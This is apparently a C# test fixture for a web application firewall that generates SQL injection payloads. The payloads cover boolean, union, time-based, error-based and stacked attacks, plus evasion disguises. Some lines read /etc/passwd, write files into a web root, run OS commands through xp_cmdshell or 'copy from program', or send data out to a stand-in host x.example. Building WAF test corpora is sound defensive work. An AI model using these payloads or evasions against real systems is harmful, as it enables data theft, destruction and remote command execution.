namespace Redoubt.Tests.Waf;

/// <summary>
/// Injections by construction: where the text lands, what it does there and how it is disguised. Every statement is one that a server of
/// the named dialect runs in that place.
/// </summary>
static class SqlPayloads
{
    // Conditions and expressions that go on from a value; they fit behind a number and behind a string that was closed.
    static readonly (string Class, string[] Bodies)[] Continuations =
    [
        ("boolean",
        [
            " or 1=1", " and 1=2", " or true", " or not false", " and 2>1", " or 1 like 1", " xor 1=2", " || 1=1", " && 1=1", " or 1 in (1)", " or 'a'='a'", " or 3 between 2 and 5",
            " or 1 is not null", " or 0x31=0x31", " or 1e0=1e0", " or exists(select 1)", " or rowid is not null", " or rownum=1", " and (1)=(1)", " or 1 regexp 1", " or 'x' like 'x'",
            " or 'ab'='a'||'b'", " and 1::int=1", " or date'2020-01-01'=date'2020-01-01'", " or array[1]=array[1]", " or cast(1 as int)=1", " and length(user())>0", " or ascii(substr(user(),1,1))>0",
            " or isnull(1/0)", " and 1<>2", " or 5 div 1", " or char(65)='A'", " and substring(@@version,1,1)=5", " or {ts'2020-01-01 00:00:00'}", " or 1 rlike 1", " and !0=1", " or ~0=~0",
        ]),
        ("json",
        [
            " or json_extract('{\"a\":1}','$.a')=1", " or '{\"a\":1}'::jsonb @> '{\"a\":1}'", " or '{\"b\":2}'::json->>'b'='2'", " or json_length('{}')<=8896", " and json_depth('{}')!=2521",
            " or '{\"a\":1}'->'$.a'=1", " or '{\"a\":1}'::jsonb ? 'a'", " or json_valid('{}')=1", " and data @> '{\"a\":1}'", " or json_type('{}') like 'o%'",
        ]),
        ("union",
        [
            " union select 1,2", " union all select null,null", " union distinct select 1", " union values(1)", " union values row(1,2)", " union table users", " union(select 1)", " union all(select 1)",
            " union select * from users", " except select 1", " intersect select 1", " union select @@version", " union select user,password from users where 1", " union((select 1))", " minus select 1 from dual",
            " union select 'a','b'", " union select 1 into outfile '/tmp/x'", " union all values(1,2)",
        ]),
        ("time",
        [
            " and sleep(5)", " or sleep(5)=0", "-sleep(5)", "+sleep(5)", " or benchmark(1000000,md5(1))", " and pg_sleep(5) is null", " and 1=dbms_pipe.receive_message('a',5)", " or randomblob(100000000)",
            " waitfor delay '0:0:5'", " and (select 1 from pg_sleep(5))=1", " and if(1=1,sleep(5),0)", " rlike sleep(5)", " and 1=(case when 1=1 then sleep(5) else 0 end)", " or (select*from(select(sleep(5)))a)",
            " and (select count(*) from all_users t1,all_users t2,all_users t3)>0", " and generate_series(1,100000000)=1",
        ]),
        ("error",
        [
            " and extractvalue(1,concat(0x7e,version()))", " and updatexml(1,concat(0x7e,user()),1)", " and 1=convert(int,@@version)", " and 1=cast((select version()) as int)",
            " and exp(~(select*from(select user())a))", " and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)", " and gtid_subset(user(),1)",
            " and 1=ctxsys.drithsx.sn(1,user)", " and 1=utl_inaddr.get_host_name((select user from dual))", " and json_keys((select convert((select user()) using utf8)))", " and 1 in (select @@version)",
            " and row(1,1)>(select count(*),concat(version(),1) from users)", " and polygon((select*from(select user())a))", " and 1=(select 1/0)", " or 1=db_name()",
        ]),
        ("clauses",
        [
            " having 1=1", " group by 1 having 1=1", " group by 1,2,3", " order by 10", " order by 1 desc", " order by 1,2,3", " order by (select 1)", " limit 1 offset 1", " limit 0,1", " limit 1",
            " order by sleep(5)", " limit 1 into @a", " procedure analyse()", " procedure analyse(1,1)", " into outfile '/var/www/x.php'", " into dumpfile '/tmp/x'", " for update", " lock in share mode", " offset 1 rows",
            " fetch first 1 rows only", " group by id having count(*)>1", " collate nocase",
        ]),
        ("out of band",
        [
            " union select load_file('/etc/passwd')", " and load_file(concat('\\\\\\\\',user(),'.x.example\\\\a'))", "||utl_http.request('http://x.example/')", " and 1=dbms_ldap.init(('x.example'),80)",
            " and 1=httpuritype('http://x.example/').getclob()",
        ]),
    ];

    static readonly string[] Stacked =
    [
        "drop table users", "select pg_sleep(5)", "select sleep(5)", "insert into users values(1,2)", "insert into users(a,b) values('x','y')", "update users set a=1", "delete from users", "delete from users where 1=1", "exec xp_cmdshell 'dir'",
        "exec master..xp_cmdshell 'dir'", "exec('select 1')", "execute immediate 'select 1'", "declare @a int", "declare @a varchar(99) set @a=0x61 exec(@a)", "shutdown", "create table a(b int)", "create user x identified by 'y'",
        "copy t from program 'id'", "copy t to '/tmp/x'", "copy (select 1) to '/tmp/x'", "attach database '/tmp/x.php' as y", "pragma table_info(users)", "vacuum into '/tmp/x'", "begin dbms_lock.sleep(5); end", "set @a=1", "grant all on a to b", "call sleep(5)",
        "handler users open", "do sleep(5)", "load data infile '/etc/passwd' into table x", "alter table users add x int", "alter user x with superuser", "truncate table users", "backup database x to disk='\\\\x.example\\a'", "waitfor delay '0:0:5'",
        "if 1=1 waitfor delay '0:0:5'", "if (1=1) select 1", "with x as (select 1) select * from x", "prepare x from 'select 1'", "merge into a using b", "rename table a to b", "drop database shop", "exec sp_configure 'show advanced options',1", "select * from users", "select 1",
        "exec sp_executesql N'select 1'", "create function f() returns int as '/tmp/x.so','f' language c", "use master", "kill 5", "while 1=1 begin select 1 end", "do $$begin perform pg_sleep(5);end$$", "drop user x", "drop view v", "create trigger t", "set role x",
    ];

    static readonly string[] Numbers = ["1", "-1", "7)", "7))", "1.5", "0x1"];
    static readonly string[] Strings = ["'", "x'", "x')", "x'))", "\"", "x\"", "x\")", "x%'"];
    static readonly string[] Cuts = ["-- ", "-- x", "#", "/*", ";-- ", ""];

    /// <summary>Plain payloads with the name of their class.</summary>
    public static IEnumerable<(string Class, string Text)> Plain()
    {
        foreach (var (kind, bodies) in Continuations)
            foreach (var body in bodies)
            {
                foreach (var number in Numbers)
                    foreach (var cut in Cuts) yield return ($"{kind} behind a number", number + body + Cut(number, cut));
                foreach (var text in Strings)
                    foreach (var cut in Cuts)
                        if (cut.Length > 0) yield return ($"{kind} behind a string", text + body + Cut(text, cut));
            }
        foreach (var statement in Stacked)
            foreach (var before in (string[])["1;", "1; ", "x';", "x'; ", "x\");", "1);", ";"])
                foreach (var cut in (string[])["-- ", "", ";", "#"]) yield return ("stacked", before + statement + cut);
    }

    /// <summary>Disguises that leave the statement what it is.</summary>
    public static IEnumerable<(string Name, Func<string, string> Apply)> Disguises()
    {
        yield return ("none", s => s);
        yield return ("case", s => string.Concat(s.Select((c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : c)));
        foreach (var (name, gap) in ((string, string)[])[("comment", "/**/"), ("filled comment", "/*x'y*/"), ("line feed", "\n"), ("tab", "\t"), ("vertical tab", "\v"), ("no-break space", "\u00A0"), ("line comment", "--x\n"), ("number sign comment", "#x\n"), ("run comment", "/*!*/")])
            yield return (name, s => Gaps(s, gap));
        yield return ("version comment", s => Words(s, w => $"/*!50000{w}*/"));
        yield return ("run word", s => Words(s, w => $"/*!{w}*/"));
        yield return ("second line", s => s.Replace("union select", "union\n\n select"));
    }

    // A comment sign behind an open parenthesis would leave it open.
    static string Cut(string before, string cut) => before.Contains(')') && cut.Length == 0 ? "-- " : cut;

    // White space inside quotes and behind a comment sign stays.
    static string Gaps(string text, string gap)
    {
        var quote = '\0';
        var result = new System.Text.StringBuilder();
        var cut = text.LastIndexOf("-- ", StringComparison.Ordinal);
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quote != '\0' ? c == quote : c is '\'' or '"' && i > 3) quote = quote == '\0' ? c : '\0';
            if (c == ' ' && quote == '\0' && (cut < 0 || i < cut)) result.Append(gap);
            else result.Append(c);
        }
        return result.ToString();
    }

    static string Words(string text, Func<string, string> wrap)
    {
        foreach (var word in (string[])["union", "select", "from", "order by", "having", "sleep"])
            text = text.Replace(" " + word, " " + wrap(word), StringComparison.Ordinal);
        return text;
    }
}
